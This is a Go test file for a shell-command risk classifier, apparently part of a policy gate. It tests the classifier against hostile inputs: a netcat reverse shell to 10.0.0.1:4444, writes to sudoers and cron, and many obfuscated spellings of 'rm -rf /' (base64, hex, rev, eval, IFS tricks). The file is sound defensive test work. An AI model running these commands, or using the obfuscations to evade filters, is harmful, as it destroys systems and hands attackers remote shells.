package shellfacts

import (
	"bufio"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sallyport/sallyport/policy"
)

type line struct {
	ID          string       `json:"id"`
	Dialect     string       `json:"dialect"`
	Input       string       `json:"input"`
	Class       policy.Class `json:"class"`
	Destructive bool         `json:"destructive"`
}

func corpus(t testing.TB, dialect string) []line {
	t.Helper()
	var out []line
	for _, name := range []string{"policy_public.jsonl", "policy_own.jsonl", "policy_review.jsonl"} {
		f, err := os.Open(filepath.Join("..", "..", "..", "testdata", "corpus", name))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		for s := bufio.NewScanner(f); s.Scan(); {
			var l line
			if err := json.Unmarshal(s.Bytes(), &l); err != nil {
				t.Fatalf("%s: %v: %s", name, err, s.Text())
			}
			if l.Dialect == dialect {
				out = append(out, l)
			}
		}
	}
	if len(out) == 0 {
		t.Fatal("no lines")
	}
	return out
}

func TestCorpus(t *testing.T) {
	for _, l := range corpus(t, "shell") {
		f := Facts(l.Input)
		if l.Class == policy.Read && f.Class != policy.Read || f.Class.Severity() < l.Class.Severity() || f.Destructive != l.Destructive {
			t.Errorf("%s %q: %s destructive=%t, want %s %t: %s", l.ID, l.Input, f.Class, f.Destructive, l.Class, l.Destructive, f.Why)
		}
	}
}

// judged is a class, with ! where it destroys.
func judged(f policy.Facts) string {
	if f.Destructive {
		return f.Class.String() + "!"
	}
	return f.Class.String()
}

// A file of its own in a directory of such files adds; all else that > writes is lost.
func TestDropIns(t *testing.T) {
	for text, want := range map[string]string{
		"echo x > /etc/sudoers.d/eve": "privilege", "echo x | tee /etc/sudoers.d/eve": "privilege", "> /etc/sudoers.d/eve": "privilege!", "echo x > /etc/sudoers": "dangerous!",
		"echo x > /etc/cron.d/../passwd": "dangerous!", "echo x > /etc/cron.daily/x": "dangerous", "> /etc/cron.daily/x": "dangerous!", "echo x > a.d/x": "write!",
	} {
		if got := judged(Facts(text)); got != want {
			t.Errorf("%q: %s, want %s", text, got, want)
		}
	}
}

// What is written to a pipe that the text makes overwrites nothing.
func TestNamedPipes(t *testing.T) {
	for text, want := range map[string]string{
		"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f": "dangerous",
		"mkfifo /tmp/f; echo x > /tmp/g": "write!", "echo x > /tmp/f; mkfifo /tmp/f": "write!", "mkfifo app.log; echo x > app.log": "write!", "mkfifo /tmp/../etc/passwd; echo > /etc/passwd": "dangerous!",
	} {
		if got := judged(Facts(text)); got != want {
			t.Errorf("%q: %s, want %s", text, got, want)
		}
	}
}

// A directory that everybody enters is closed without -R too.
func TestClosedDirectories(t *testing.T) {
	for text, want := range map[string]string{
		"chmod 000 /": "dangerous!", "chmod 0644 /etc/": "dangerous!", "chmod a-x /usr/bin": "dangerous!", "chmod o= /var": "dangerous!", "chmod 755 /": "privilege", "chmod 1777 /tmp": "privilege",
		"chmod o-w /tmp": "privilege", "chmod 700 /root": "privilege", "chmod 600 /etc/shadow": "privilege", "chmod +x /usr/bin": "privilege",
	} {
		if got := judged(Facts(text)); got != want {
			t.Errorf("%q: %s, want %s", text, got, want)
		}
	}
}

// Every spelling of a command is the same command.
func TestSpellings(t *testing.T) {
	for _, text := range []string{
		"rm -rf /", "  rm   -rf\t/", "r''m -rf /", `\rm -rf /`, `"rm" '-rf' "/"`, `$'\x72m' -rf /`, "{rm,-rf,/}", "rm${IFS}-rf${IFS}/", "/bin/rm -rf /", "/usr/bin/../bin/rm -rf /",
		"X=rm; $X -rf /", "X='rm -rf /'; $X", "$(echo rm) -rf /", "`echo rm` -rf /", "command rm -rf /", "exec rm -rf /", "nohup rm -rf / &", "env A=1 rm -rf /", "timeout 5 rm -rf /",
		"sh -c 'rm -rf /'", "bash -c \"rm -rf /\"", "eval rm -rf /", "eval 'rm -rf' /", "(rm -rf /)", "{ rm -rf /; }", "if true; then rm -rf /; fi", "while true; do rm -rf /; done", "f() { rm -rf /; }; f",
		"true && rm -rf /", "false || rm -rf /", "ls | xargs rm -rf /", "echo $(rm -rf /)", "cat <(rm -rf /)", "cat <<EOF\n$(rm -rf /)\nEOF", "bash <<< 'rm -rf /'", "bash <<'EOF'\nrm -rf /\nEOF",
		"echo 'rm -rf /' | sh", "printf 'rm -rf /' | bash", "printf '%s' 'rm -rf /' | sh", "echo cm0gLXJmIC8= | base64 -d | sh", "echo / fr- mr | rev | sh", "echo '/ fr- mr' | rev | bash",
		"sh -c \"$(echo cm0gLXJmIC8= | base64 --decode)\"", "busybox rm -rf /", "rm --recursive --force /", "rm -r -f -- /", "rm -fr //", "rm -rf /./", "rm -rf /../", "case x in x) rm -rf /;; esac",
		"for i in /; do rm -rf $i; done", "time rm -rf /", "! rm -rf /", "alias x='rm -rf /'", "trap 'rm -rf /' EXIT", "coproc rm -rf /", "sudo rm -rf /", "su -c 'rm -rf /'", "nice -n 5 rm -rf /",
		"find / -exec rm -rf / \\;", "watch rm -rf /", "[[ -n $(rm -rf /) ]]", "echo ${X:-$(rm -rf /)}", "echo $(( $(rm -rf /) ))", "stdbuf -o0 rm -rf /", "X=r; Y=m; $X$Y -rf /", "env -S 'rm -rf /'", "xargs -a /dev/null rm -rf /",
		"A=(x); rm -rf /", "rm -rf / #comment", "rm \\\n-rf /", "echo 726d202d7266202f | xxd -r -p | sh", "tr a-z b-za <<< 'ql -qe /' | sh; rm -rf /",
	} {
		f := Facts(text)
		if f.Class.Severity() < policy.Dangerous.Severity() || !f.Destructive {
			t.Errorf("%q: %s destructive=%t: %s", text, f.Class, f.Destructive, f.Why)
		}
	}
}

func TestUnknown(t *testing.T) {
	for _, text := range []string{
		"", " ", "\x00", "ls\x00", "ls \x1b[31m", "\xff", strings.Repeat("a", maxText+1), strings.Repeat("(", 5000), "$X", "${X}", "$(cat x)", "/bin/l?", "./x", "nosuchprogram", "ls &&", "eval $X", ". ./x", "sh x.sh",
		"f() { \"$@\"; }; f ls", "X=ls; [ -f a ] && X=rm; $X a", "for x in *; do $x; done", "while read -r x; do $x; done", "/tmp/ls", "IFS=x; X=lsxa; $X", "ls\u202e", "bash", "sh -s", "x='a[$(ls)]'; (( x ))",
	} {
		if f := Facts(text); f.Class != policy.Unknown || !f.Opaque || f.Why == "" {
			t.Errorf("%.40q: %s, %s", text, f.Class, f.Why)
		}
	}
}

// The work is bounded, whatever loops do.
func TestBounded(t *testing.T) {
	text := "ls"
	for range 20 {
		text = "for i in 1 2 3 4 5 6 7 8 9; do " + text + "; done"
	}
	if f := Facts(text); f.Class != policy.Unknown {
		t.Error(f.Class, f.Why)
	}
	for _, text := range []string{
		strings.Repeat("ls;", 20_000), strings.Repeat("ls|", 20_000) + "ls", strings.Repeat("ls|", 190) + "ls", "x=a;" + strings.Repeat("x=$x$x;", 9_000) + "$x", strings.Repeat("docker exec ", 5_000),
		strings.Repeat("kubectl exec ", 4_000), strings.Repeat("find . -exec ", 4_000), strings.Repeat("find . -exec docker exec ", 2_000), strings.Repeat("sudo ", 12_000) + "ls", "rm " + strings.Repeat("a ", 30_000),
		strings.Repeat("if true; then ", 3_000) + "ls" + strings.Repeat("; fi", 3_000), strings.Repeat("f(){ f; f; };", 400), strings.Repeat("/*/", 20_000), "awk '" + strings.Repeat("\"a\" > ", 9_000) + "'", strings.Repeat("xargs ", 9_000),
	} {
		Facts(text)
	}
	Facts("echo " + strings.Repeat("{a,b}", 40))
	Facts(strings.Repeat("$(echo ", 200) + strings.Repeat(")", 200))
}

func TestCommands(t *testing.T) {
	f := Facts("cat /etc/hosts | sudo tee /etc/x && find . -exec wc -l {} +")
	var names []string
	for _, c := range f.Commands {
		names = append(names, c.Name+":"+c.Class.String())
	}
	if got, want := strings.Join(names, " "), "cat:read tee:dangerous sudo:privilege wc:read find:read"; got != want {
		t.Errorf("commands %s, want %s", got, want)
	}
	if f.Verb != "cat" {
		t.Error(f.Verb)
	}
}

func FuzzFacts(f *testing.F) {
	for _, l := range corpus(f, "shell") {
		f.Add(l.Input)
	}
	f.Fuzz(func(t *testing.T, text string) {
		got := Facts(text)
		if got.Class != policy.Read && got.Why == "" {
			t.Errorf("%q is %s and does not say why", text, got.Class)
		}
		// A deletion beside it is never overlooked, where the whole still parses.
		if _, err := parse("rm -rf /\n" + text); err == nil && unfit("rm -rf /\n"+text) == "" {
			if worse := Facts("rm -rf /\n" + text); !worse.Destructive || worse.Class.Severity() < policy.Dangerous.Severity() {
				t.Errorf("%q hides what stands before it: %s", text, worse.Class)
			}
		}
	})
}

func BenchmarkFacts(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		Facts("tail -n 200 app.log | grep -c ERROR")
	}
}
